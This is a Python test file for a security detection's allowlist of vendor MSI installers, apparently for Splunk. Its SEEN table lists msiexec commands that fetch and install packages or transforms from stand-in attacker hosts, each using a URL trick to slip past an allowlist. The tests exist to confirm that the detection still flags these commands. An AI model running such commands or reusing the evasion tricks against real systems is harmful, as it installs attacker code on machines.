"""What ships as usual, the lookup ssa_usual: its entries leave out their vendor's package, and nothing beside it."""

import csv
import json
import time
from contextlib import closing

import pytest

from sandbox.search.instance import Instance
from tests.detections.story import FETCH, started
from tools import ROOT
from tools.docs.pages import saved_search, shipped

with (ROOT / "lookups/ssa_usual.csv").open(newline="") as file:
    ENTRIES = list(csv.DictReader(file))

SEEN = {
    "plain http, into which anyone on the way can write": "msiexec /i http://awscli.amazonaws.com/AWSCLIV2.msi /qn",
    "a transform of somebody else": "msiexec /i https://awscli.amazonaws.com/A.msi TRANSFORMS=https://h.example/e.mst",
    "a patch of somebody else": r"msiexec /i https://awscli.amazonaws.com/AWSCLIV2.msi PATCH=\\h.example\s\e.msp",
    "another machine behind the name": "msiexec /i https://awscli.amazonaws.com@h.example/AWSCLIV2.msi",
    "another machine of the same end": "msiexec /i https://evil-awscli.amazonaws.com/AWSCLIV2.msi",
    "another machine that begins so": "msiexec /i https://awscli.amazonaws.com.h.example/AWSCLIV2.msi",
    "the name in the path": "msiexec /i https://h.example/awscli.amazonaws.com/AWSCLIV2.msi",
    "a share of that name": r"msiexec /i \\awscli.amazonaws.com@80\s\a.msi TRANSFORMS=https://h.example/e.mst",
    "out of the folder again": "msiexec /i https://s3.amazonaws.com/ddagent-windows-stable/../evil/a.msi",
    "out of it in another way": "msiexec /i https://s3.amazonaws.com/ddagent-windows-stable/%2e%2e/evil/a.msi",
    "another bucket that begins so": "msiexec /i https://s3.amazonaws.com/ddagent-windows-stable-x/a.msi",
    "backslashes": r"msiexec /i https://s3.amazonaws.com/ddagent-windows-stable/..\evil\a.msi",
    "another address of Microsoft's shortener": "msiexec /i https://aka.ms/other",
    "control characters, which URLs lose": "msiexec /i https://zoom.us/client/.\x01./evil/a.msi",
    "an address behind it": "msiexec /i https://aka.ms/installazurecliwindows TRANSFORMS=https://h.example/e.mst",
}

FORGED = {"package_address": "https://dl.google.com/a.msi", "package_source": "https://dl.google.com/a.msi"}
"""Columns of an event: a command line may hold what Splunk extracts as a field."""


def address(entry):
    """An address that an entry is about."""
    return entry["pattern"].replace("*", "a/b.msi")


def test_every_entry_is_about_a_shipped_detection_and_ends():
    assert {entry["detection"] for entry in ENTRIES} <= set(shipped().names)
    for entry in ENTRIES:
        assert entry["pattern"] == entry["pattern"].lower()
        assert entry["owner"] and entry["reason"]
        assert time.strptime(entry["expires"], "%Y-%m-%d")
        # What is before the wildcard is a whole folder of a whole machine.
        assert entry["pattern"].startswith("https://")
        assert "*" not in entry["pattern"].removesuffix("/*")


@pytest.fixture(scope="module")
def found(archive, tmp_path_factory):
    """The command lines that the packaged search finds, of those of the entries and those that seem so."""
    lines = [*(f"msiexec /qn /i {address(entry)}" for entry in ENTRIES), *SEEN.values()]
    made = Instance(tmp_path_factory.mktemp("usual"), indexers=2)
    made.install(archive)
    made.add_events(
        {
            **FORGED,
            **row,
            "_time": 1_772_442_000.0 + n,
            "index": "main",
            "tag": ["process", "report"],
            "_raw": json.dumps(row),
        }
        for n, row in enumerate({**started(line, "cmd.exe"), "dest": "ws-1", "user": "amy"} for line in lines)
    )
    with closing(made):
        search = made.saved_search(saved_search(shipped().find(FETCH)))["search"]
        yield [row["process"] for row in made.search(search).rows]


@pytest.mark.parametrize("entry", ENTRIES, ids=[entry["pattern"] for entry in ENTRIES])
def test_a_package_of_that_vendor_is_left_out(entry, found):
    assert f"msiexec /qn /i {address(entry)}" not in found


@pytest.mark.parametrize("why", SEEN)
def test_nothing_else_is(why, found):
    assert SEEN[why] in found
